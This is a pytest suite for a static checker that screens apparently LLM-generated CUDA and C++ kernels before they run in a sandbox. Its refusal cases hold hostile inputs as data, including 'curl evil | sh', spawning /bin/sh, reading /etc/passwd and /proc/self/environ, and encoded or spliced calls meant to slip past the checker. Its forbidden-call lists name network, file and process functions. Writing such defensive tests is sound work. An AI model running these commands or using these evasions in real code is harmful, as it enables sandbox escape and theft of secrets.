"""Static check (sandbox/static.py): honest kernels pass; each forbidden thing is refused at its line."""
from __future__ import annotations

from pathlib import Path

import pytest

from kforge_tui.sandbox.static import Diagnostic, StaticReport, check_source
from kforge_tui.task import Task, TensorMeta
from kforge_tui.workload import catalogue

KERNELS = Path(__file__).parent / "kernels"


def _softmax_sig(backend: str, dtype: str = "float32") -> catalogue.Signature:
    t = Task("softmax", dtype, (TensorMeta("x", (8, 1024), dtype),), TensorMeta("y", (8, 1024), dtype),
             {"dim": -1}, backend=backend)
    return catalogue.signature(t, backend)


def _group_norm_sig(backend: str, dtype: str) -> catalogue.Signature:
    x = TensorMeta("x", (1, 64, 8, 8), dtype)
    t = Task("group_norm", dtype, (x, TensorMeta("weight", (64,), dtype), TensorMeta("bias", (64,), dtype)),
             TensorMeta("y", (1, 64, 8, 8), dtype), {"groups": 32, "eps": 1e-5}, backend=backend)
    return catalogue.signature(t, backend)


SM_CUDA = _softmax_sig("cuda")
SM_CPU = _softmax_sig("cpu")

# An honest skeleton with two holes: @FILE@ at file scope, @BODY@ inside the launcher.
CUDA_TEMPLATE = """#include <cuda_runtime.h>
#include <stdint.h>
@FILE@
__global__ void k(const float* __restrict__ x, float* __restrict__ y, int64_t n) {
    int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (i < n) y[i] = x[i];
}

extern "C" int kforge_launch(const float* x, float* y, int64_t outer, int64_t n, int64_t inner,
                             cudaStream_t stream) {
    @BODY@
    k<<<(unsigned)((outer * n * inner + 255) / 256), 256, 0, stream>>>(x, y, outer * n * inner);
    return (int)cudaGetLastError();
}
"""
CPU_TEMPLATE = """#include <stdint.h>
#include <math.h>
@FILE@
extern "C" int kforge_launch(const float* x, float* y, int64_t outer, int64_t n, int64_t inner) {
    @BODY@
    for (int64_t i = 0; i < outer * n * inner; ++i) y[i] = x[i];
    return 0;
}
"""


def _fill(template: str, file: str = "", body: str = "") -> tuple[str, int]:
    """The source, and the 1-based line where the injected code starts."""
    hole = "@FILE@" if file else "@BODY@"
    line = template.split(hole)[0].count("\n") + 1
    return template.replace("@FILE@", file).replace("@BODY@", body), line


def _rules(report: StaticReport) -> set[str]:
    return {d.rule for d in report.diagnostics}


# ----------------------------------------------------------------------------- honest

@pytest.mark.parametrize("name, sig", [
    ("softmax_f32.cu", SM_CUDA),
    ("softmax_f32_idioms.cu", SM_CUDA),
    ("softmax_f32.cpp", SM_CPU),
    ("group_norm_f16.cu", _group_norm_sig("cuda", "float16")),
    ("group_norm_f32.cpp", _group_norm_sig("cpu", "float32")),
])
def test_honest_kernels_pass(name, sig):
    report = check_source((KERNELS / name).read_text(), sig)
    assert report.ok, report.text()
    assert report.diagnostics == [] and report.text() == "" and report.first_line is None


def test_templates_are_honest():
    for template, sig in ((CUDA_TEMPLATE, SM_CUDA), (CPU_TEMPLATE, SM_CPU)):
        report = check_source(_fill(template)[0], sig)
        assert report.ok, report.text()


@pytest.mark.parametrize("template, sig, file, body", [
    # stream-ordered scratch space is the legitimate way to get temporary memory
    (CUDA_TEMPLATE, SM_CUDA, "", "void* tmp = nullptr; cudaMallocAsync(&tmp, 64, stream); "
                                 "cudaFreeAsync(tmp, stream);"),
    (CUDA_TEMPLATE, SM_CUDA, "__device__ __forceinline__ unsigned lane() { unsigned l; "
                             "asm volatile(\"mov.u32 %0, %%laneid;\" : \"=r\"(l)); return l; }", ""),
    (CUDA_TEMPLATE, SM_CUDA, "__constant__ float kTab[4] = {1.f, 2.f, 3.f, 4.f};\n"
                             "__device__ const float kDev[2] = {1.f, 2.f};\nstatic const int kN = 4;\n"
                             "constexpr int kBlock = 256;\nconst char* const kName = \"k\";", ""),
    (CUDA_TEMPLATE, SM_CUDA, "#include <cub/block/block_reduce.cuh>\n#include <cuda/pipeline>\n"
                             "#include <cooperative_groups/reduce.h>\n#include <mma.h>", ""),
    (CUDA_TEMPLATE, SM_CUDA, "", "static const int kLocal = 3; static constexpr float kF = 1.f; "
                                 "(void)kLocal; (void)kF;"),
    (CUDA_TEMPLATE, SM_CUDA, "__global__ void k2(float* y) { auto add = [] __device__ (float a, float b) "
                             "{ return a + b; }; y[0] = add(1.f, 2.f); }\n"
                             "struct __align__(8) P2 { float a, b; };", ""),
    (CUDA_TEMPLATE, SM_CUDA, "", "cudaFuncSetAttribute(k, cudaFuncAttributeMaxDynamicSharedMemorySize, "
                                 "65536); dim3 grid(1), block(32); k<<<grid, block, 0, stream>>>(x, y, 0);"),
    (CPU_TEMPLATE, SM_CPU, "#include <immintrin.h>\n#include <omp.h>\n#include <algorithm>\n#include <cstdlib>",
     "float* tmp = (float*)malloc(64); free(tmp); float buf[16] __attribute__((aligned(64))); (void)buf;"),
    (CPU_TEMPLATE, SM_CPU, "struct Acc { static constexpr int kW = 8; float v; };", "Acc a{0.f}; (void)a;"),
    (CPU_TEMPLATE, SM_CPU, "#pragma once\n#pragma GCC optimize(\"O3\")", "#pragma omp simd\n    for (int i = 0; i < 4; ++i) y[i] = 0;"),
])
def test_legitimate_idioms_pass(template, sig, file, body):
    source, _ = _fill(template, file, body)
    report = check_source(source, sig)
    assert report.ok, report.text()


# -------------------------------------------------------------------------- refusals

FILE_CASES = [  # (backend, file-scope code, rule)
    ("cuda", "#include <torch/extension.h>", "include"),
    ("cuda", "#include <ATen/ATen.h>", "include"),
    ("cuda", "#include <c10/util/Half.h>", "include"),
    ("cuda", "#include <cublas_v2.h>", "include"),
    ("cuda", "#include <cudnn.h>", "include"),
    ("cuda", "#include <cutlass/gemm/device/gemm.h>", "include"),
    ("cuda", "#include <cub/device/device_reduce.cuh>", "include"),
    ("cuda", "#include <thread>", "include"),
    ("cuda", "#include <stdio.h>", "include"),
    ("cuda", "#include <unistd.h>", "include"),
    ("cuda", '#include "helpers.h"', "include"),
    ("cuda", "#define HDR <stdio.h>\n#include HDR", "include"),
    ("cuda", "#include <cuda/../../../../etc/passwd>", "include"),
    ("cuda", "#include </proc/self/environ>", "include"),
    ("cuda", "#include_next <stdio.h>", "preprocessor"),
    ("cpu", '#embed "/etc/passwd"', "preprocessor"),
    ("cpu", "#include <cuda_runtime.h>", "include"),
    ("cpu", "#include <fstream>", "include"),
    ("cuda", "__device__ float g_cache[1024];", "mutable-state"),
    ("cuda", "__managed__ int g_calls;", "mutable-state"),
    ("cuda", "static int calls = 0;", "mutable-state"),
    ("cuda", "float* g_prev = nullptr;", "mutable-state"),
    ("cuda", "const float* g_prev = nullptr;", "mutable-state"),  # the pointer itself is mutable
    ("cuda", "thread_local int t_state;", "mutable-state"),
    ("cuda", "extern char** environ;", "mutable-state"),
    ("cpu", "struct Memo { static float last; };", "mutable-state"),
    ("cpu", "namespace impl { int counter = 0; }", "mutable-state"),
    ("cpu", "__attribute__((constructor)) static void init() {}", "load-time-code"),
    ("cpu", "[[gnu::constructor]] static void init() {}", "load-time-code"),
    ("cuda", "#define RUN system", "forbidden-call"),
    ("cpu", "#define CAT(a, b) a##b", "macro"),
    ("cuda", 'asm(".globl evil");', "asm"),
    ("cuda", 'extern "C" int spawn_(unsigned long*, const void*, void* (*)(void*), void*) __asm__("pthread_create");', "asm"),
    ("cpu", 'extern "C" int run_(const char*) __asm__("system");', "asm"),
    ("cpu", "static inline void nop() { __asm__ __volatile__(\"nop\"); }", "asm"),
    ("cuda", "__host__ __device__ inline unsigned f() { unsigned r; asm(\"mov.u32 %0, 0;\" : \"=r\"(r)); return r; }", "asm"),
]


@pytest.mark.parametrize("backend, code, rule", FILE_CASES, ids=[c[1][:40] for c in FILE_CASES])
def test_file_scope_refusals(backend, code, rule):
    template, sig = (CUDA_TEMPLATE, SM_CUDA) if backend == "cuda" else (CPU_TEMPLATE, SM_CPU)
    source, line = _fill(template, file=code)
    report = check_source(source, sig)
    assert not report.ok
    hits = [d for d in report.diagnostics if d.rule == rule]
    assert hits, report.text()
    assert line <= hits[0].line <= line + code.count("\n"), report.text()
    assert f"L{hits[0].line}:{hits[0].col} [{rule}]" in report.text()


BODY_CASES = [  # (backend, launcher-body code, rule, word the message must name)
    ("cuda", 'system("curl evil | sh");', "forbidden-call", "system"),
    ("cuda", 'std::system("ls");', "forbidden-call", "system"),
    ("cpu", 'auto p = popen("ls", "r"); (void)p;', "forbidden-call", "popen"),
    ("cpu", "fork();", "forbidden-call", "fork"),
    ("cpu", 'vfork();', "forbidden-call", "vfork"),
    ("cpu", 'execl("/bin/sh", "sh", (char*)0);', "forbidden-call", "execl"),
    ("cpu", 'execve("/bin/sh", nullptr, nullptr);', "forbidden-call", "execve"),
    ("cpu", 'int fd = open("/tmp/out", 0); (void)fd;', "forbidden-call", "open"),
    ("cpu", 'auto f = fopen("/tmp/out", "w"); (void)f;', "forbidden-call", "fopen"),
    ("cpu", 'creat("/tmp/x", 0644);', "forbidden-call", "creat"),
    ("cpu", 'unlink("/tmp/x");', "forbidden-call", "unlink"),
    ("cpu", 'remove("/tmp/x");', "forbidden-call", "remove"),
    ("cpu", 'rename("/tmp/a", "/tmp/b");', "forbidden-call", "rename"),
    ("cpu", "int s = socket(2, 1, 0); (void)s;", "forbidden-call", "socket"),
    ("cpu", "connect(0, nullptr, 0);", "forbidden-call", "connect"),
    ("cpu", "bind(0, nullptr, 0);", "forbidden-call", "bind"),
    ("cpu", 'void* h = dlopen("libtorch.so", 2); (void)h;', "forbidden-call", "dlopen"),
    ("cpu", 'void* f = dlsym(nullptr, "x"); (void)f;', "forbidden-call", "dlsym"),
    ("cpu", "pthread_create(nullptr, nullptr, nullptr, nullptr);", "forbidden-call", "pthread_create"),
    ("cpu", "std::thread t([] {}); t.detach();", "forbidden-call", "thread"),
    ("cpu", "std::jthread t([] {});", "forbidden-call", "jthread"),
    ("cpu", "auto fut = std::async([] { return 0; }); (void)fut;", "forbidden-call", "async"),
    ("cpu", 'const char* h = getenv("HOME"); (void)h;', "forbidden-call", "getenv"),
    ("cpu", 'auto ptr = &system; (void)ptr;', "forbidden-call", "system"),  # no call, still refused
    ("cpu", '\\u0073ystem("ls");', "forbidden-call", "system"),  # universal character name
    ("cpu", "exit(0);", "forbidden-call", "exit"),
    ("cpu", "static float cache[16];", "mutable-state", "cache"),
    ("cpu", "static bool first = true; (void)first;", "mutable-state", "first"),
    ("cpu", "thread_local int n_calls = 0;", "mutable-state", "thread_local"),
    ("cpu", '__asm__("syscall");', "asm", "asm"),
    ("cpu", 'sys\\\ntem("ls");', "line-splice", "backslash"),
    ("cuda", "cudaStream_t s2; cudaStreamCreate(&s2);", "forbidden-call", "cudaStreamCreate"),
    ("cuda", "cudaStream_t s2; cudaStreamCreateWithFlags(&s2, 1);", "forbidden-call",
     "cudaStreamCreateWithFlags"),
    ("cuda", "cudaEvent_t e; cudaEventCreate(&e);", "forbidden-call", "cudaEventCreate"),
    ("cuda", "cudaEvent_t e; cudaEventCreateWithFlags(&e, 0);", "forbidden-call", "cudaEventCreateWithFlags"),
    ("cuda", "cudaLaunchHostFunc(stream, nullptr, nullptr);", "forbidden-call", "cudaLaunchHostFunc"),
    ("cuda", "cudaStreamAddCallback(stream, nullptr, nullptr, 0);", "forbidden-call", "cudaStreamAddCallback"),
    ("cuda", "cudaGraph_t g; cudaGraphCreate(&g, 0);", "forbidden-call", "cudaGraphCreate"),
    ("cuda", "float* t; cudaMalloc(&t, 64);", "forbidden-call", "cudaMalloc"),
    ("cuda", "float* t; cudaMallocManaged(&t, 64);", "forbidden-call", "cudaMallocManaged"),
    ("cuda", "float* t; cudaMallocHost(&t, 64);", "forbidden-call", "cudaMallocHost"),
    ("cuda", "float* t; cudaHostAlloc(&t, 64, 0);", "forbidden-call", "cudaHostAlloc"),
    ("cuda", "cudaSetDevice(1);", "forbidden-call", "cudaSetDevice"),
    ("cuda", "cudaDeviceReset();", "forbidden-call", "cudaDeviceReset"),
    ("cuda", "cudaDeviceSetLimit(cudaLimitStackSize, 0);", "forbidden-call", "cudaDeviceSetLimit"),
    ("cuda", "cublasSgemm(nullptr, 0, 0, 0, 0, 0, nullptr, nullptr, 0, nullptr, 0, nullptr, nullptr, 0);",
     "forbidden-call", "cublasSgemm"),
    ("cuda", "cudnnHandle_t h; cudnnCreate(&h);", "forbidden-call", "cudnnCreate"),
    ("cuda", "cudaMemcpyToSymbol(kTab, x, 16);", "forbidden-call", "cudaMemcpyToSymbol"),
    ("cuda", "cudaMemcpy(y, x, 16, cudaMemcpyDeviceToDevice);", "forbidden-call", "cudaMemcpy"),
    ("cuda", "auto t = torch::empty({4});", "forbidden-call", "torch::empty"),
    ("cuda", "at::native::softmax(x, 1);", "forbidden-call", "at::native::softmax"),
    ("cuda", 'asm volatile("syscall");', "asm", "host"),
    ("cuda", "k<<<1, 32>>>(x, y, n);", "launch-stream", "stream"),
    ("cuda", "k<<<1, 32, 0, 0>>>(x, y, n);", "launch-stream", "stream"),
    ("cuda", "k<<<1, 32, 0, cudaStreamPerThread>>>(x, y, n);", "launch-stream", "stream"),
]


@pytest.mark.parametrize("backend, code, rule, word", BODY_CASES, ids=[c[1][:40] for c in BODY_CASES])
def test_body_refusals(backend, code, rule, word):
    template, sig = (CUDA_TEMPLATE, SM_CUDA) if backend == "cuda" else (CPU_TEMPLATE, SM_CPU)
    source, line = _fill(template, body=code)
    report = check_source(source, sig)
    assert not report.ok
    hits = [d for d in report.diagnostics if d.rule == rule]
    assert hits, report.text()
    assert hits[0].line == line, report.text()
    assert hits[0].col >= 5 and word in hits[0].message, report.text()
    assert report.first_line == line


def test_system_message_format():
    source, line = _fill(CPU_TEMPLATE, body='system("ls");')
    report = check_source(source, SM_CPU)
    assert report.text().splitlines()[0].startswith(f"L{line}:5 [forbidden-call] system() is not allowed")
    assert isinstance(report.diagnostics[0], Diagnostic)


def test_comments_strings_and_fields_are_not_calls():
    body = ('// system("ls") would be refused\n    const char* msg = "fork() and popen()"; (void)msg;\n'
            "    struct { int open; } st{1}; (void)st.open;")
    report = check_source(_fill(CPU_TEMPLATE, body=body)[0], SM_CPU)
    assert report.ok, report.text()


def test_malloc_is_cpu_only_scratch_and_cuda_malloc_is_refused_on_cuda():
    src_cpu = _fill(CPU_TEMPLATE, body="float* t = (float*)malloc(16); free(t);")[0]
    assert check_source(src_cpu, SM_CPU).ok
    src_cuda = _fill(CUDA_TEMPLATE, body="float* t; cudaMalloc(&t, 16); cudaFree(t);")[0]
    rules = [d.message.split("(")[0] for d in check_source(src_cuda, SM_CUDA).diagnostics]
    assert rules == ["cudaMalloc", "cudaFree"]


def test_every_refusal_is_reported_not_just_the_first():
    body = 'system("a");\n    fork();\n    static int n = 0;'
    source, line = _fill(CPU_TEMPLATE, body=body)
    report = check_source(source, SM_CPU)
    assert [(d.line, d.rule) for d in report.diagnostics] == [
        (line, "forbidden-call"), (line + 1, "forbidden-call"), (line + 2, "mutable-state")]


# ---------------------------------------------------------------- not code at all

@pytest.mark.parametrize("source", ["", "   \n\t\n"])
def test_empty_source(source):
    report = check_source(source, SM_CUDA)
    assert not report.ok and _rules(report) == {"empty"} and report.first_line == 1


def test_non_text_source_is_a_report_not_a_crash():
    report = check_source(None, SM_CPU)  # type: ignore[arg-type]
    assert not report.ok and "not text" in report.text()


def test_prose_is_a_parse_error():
    prose = ("Here is an optimized softmax kernel for you!\n"
             "It uses warp shuffles, shared memory and vectorized loads; enjoy.\n")
    report = check_source(prose, SM_CUDA)
    assert not report.ok and "parse" in _rules(report), report.text()
    assert all(d.line >= 1 and d.col >= 1 for d in report.diagnostics)


def test_markdown_fence_is_a_parse_error_at_line_1():
    source = "```cuda\n" + (KERNELS / "softmax_f32.cu").read_text() + "```\n"
    report = check_source(source, SM_CUDA)
    assert not report.ok and report.diagnostics[0].rule == "parse" and report.first_line == 1


@pytest.mark.parametrize("name, sig", [("softmax_f32.cu", SM_CUDA), ("softmax_f32.cpp", SM_CPU)])
def test_truncated_source_reports_where_it_breaks(name, sig):
    full = (KERNELS / name).read_text()
    cut = full[: full.index("kforge_launch") + 120]  # stops inside the launcher
    report = check_source(cut, sig)
    assert not report.ok and "parse" in _rules(report), report.text()
    last_include = max(i for i, ln in enumerate(full.splitlines(), 1) if ln.startswith("#include"))
    assert report.first_line is not None and report.first_line > last_include, report.text()
    assert any("missing" in d.message or "not closed" in d.message for d in report.diagnostics)


def test_nul_byte_is_refused():
    report = check_source("int x;\n\x00junk", SM_CPU)
    assert not report.ok and report.diagnostics[0].line == 2


# ----------------------------------------------------------------- entry point

def test_missing_entry_point():
    source = _fill(CPU_TEMPLATE)[0].replace("kforge_launch", "launch")
    report = check_source(source, SM_CPU)
    assert [d.rule for d in report.diagnostics] == ["entry-point"]
    assert "kforge_launch" in report.text() and "int64_t inner" in report.text()


def test_declared_but_not_defined():
    source = '#include <stdint.h>\nextern "C" int kforge_launch(const float* x, float* y, int64_t outer, ' \
             'int64_t n, int64_t inner);\n'
    report = check_source(source, SM_CPU)
    assert [(d.rule, d.line) for d in report.diagnostics] == [("entry-point", 2)]
    assert "never defined" in report.text()


def test_entry_point_without_extern_c():
    source = _fill(CPU_TEMPLATE)[0].replace('extern "C" ', "")
    report = check_source(source, SM_CPU)
    assert [d.rule for d in report.diagnostics] == ["linkage"]
    assert report.diagnostics[0].line == CPU_TEMPLATE.split("\n").index(
        next(ln for ln in CPU_TEMPLATE.split("\n") if "kforge_launch" in ln)) + 1


def test_extern_c_prototype_gives_the_definition_c_linkage():
    proto = 'extern "C" int kforge_launch(const float*, float*, int64_t, int64_t, int64_t);\n'
    source = _fill(CPU_TEMPLATE, file=proto)[0].replace('extern "C" int kforge_launch(const float* x',
                                                       "int kforge_launch(const float* x")
    assert check_source(source, SM_CPU).ok


def test_static_entry_point_is_refused():
    source = _fill(CPU_TEMPLATE)[0].replace('extern "C" int', 'extern "C" static int')
    report = check_source(source, SM_CPU)
    assert not report.ok and "static" in report.text()


def test_wrong_parameter_count_names_expected_and_got():
    source = _fill(CUDA_TEMPLATE)[0].replace("int64_t inner,\n", "\n").replace("* inner", "")
    report = check_source(source, SM_CUDA)
    assert [d.rule for d in report.diagnostics] == ["signature"], report.text()
    msg = report.diagnostics[0].message
    assert "takes 5 parameters, expected 6" in msg
    assert "expected (const float*, float*, int64_t, int64_t, int64_t, cudaStream_t)" in msg
    assert "got (const float*, float*, int64_t, int64_t, cudaStream_t)" in msg


@pytest.mark.parametrize("old, new, index", [
    ("const float* x", "float* x", 1),  # input must be const
    ("float* y", "double* y", 2),
    ("int64_t n", "int n", 4),  # 32-bit size: a real ABI mismatch
    ("int64_t inner", "float inner", 5),
])
def test_wrong_parameter_type(old, new, index):
    source = _fill(CPU_TEMPLATE)[0].replace(old, new, 1)
    report = check_source(source, SM_CPU)
    assert [d.rule for d in report.diagnostics] == ["signature"], report.text()
    assert f"parameter {index} (" in report.text() and "expected" in report.text()


def test_half_vs_float_is_a_type_mismatch():
    src = (KERNELS / "group_norm_f16.cu").read_text().replace("const __half* x,", "const float* x,")
    report = check_source(src, _group_norm_sig("cuda", "float16"))
    assert [d.rule for d in report.diagnostics] == ["signature"]
    assert "parameter 1 (x): expected const __half*, got const float*" in report.text()


def test_equivalent_spellings_are_accepted():
    decl = ('extern "C" int kforge_launch(float const * __restrict__ in, float *__restrict out,\n'
            '                             long a, const long long b, const int64_t c) {\n'
            '    (void)in; (void)out; (void)a; (void)b; (void)c; return 0;\n}\n')
    report = check_source("#include <stdint.h>\n" + decl, SM_CPU)
    assert report.ok, report.text()
    unnamed = 'extern "C" int kforge_launch(const float*, float*, int64_t, int64_t, int64_t) { return 0; }'
    assert check_source("#include <stdint.h>\n" + unnamed, SM_CPU).ok


def test_wrong_return_type():
    source = _fill(CPU_TEMPLATE)[0].replace('extern "C" int', 'extern "C" void').replace("return 0;", "return;")
    report = check_source(source, SM_CPU)
    assert [d.rule for d in report.diagnostics] == ["signature"] and "must return int" in report.text()


def test_cuda_signature_needs_the_stream():
    src = (KERNELS / "softmax_f32.cpp").read_text().replace("#include <stdint.h>", "#include <cuda_runtime.h>\n#include <stdint.h>")
    report = check_source(src, SM_CUDA)
    assert "signature" in _rules(report) and "cudaStream_t" in report.text()


def test_never_raises_on_truncated_or_mangled_sources():
    """Whatever the LLM sends, the answer is a report: every prefix and random splices."""
    import random

    rnd = random.Random(1234)
    for name, sig in (("softmax_f32.cu", SM_CUDA), ("group_norm_f32.cpp", SM_CPU)):
        src = (KERNELS / name).read_text()
        for i in range(0, len(src), 13):
            assert isinstance(check_source(src[:i], sig), StaticReport)
        for _ in range(100):
            a, b = sorted(rnd.randrange(len(src)) for _ in range(2))
            junk = rnd.choice(["", "{", "}", "(", '"', "'", "/*", "\\", "#", "<<<", "\u00e9", "\\u0073"])
            report = check_source(src[:a] + junk + src[b:], sig)
            assert report.ok == (not report.diagnostics)
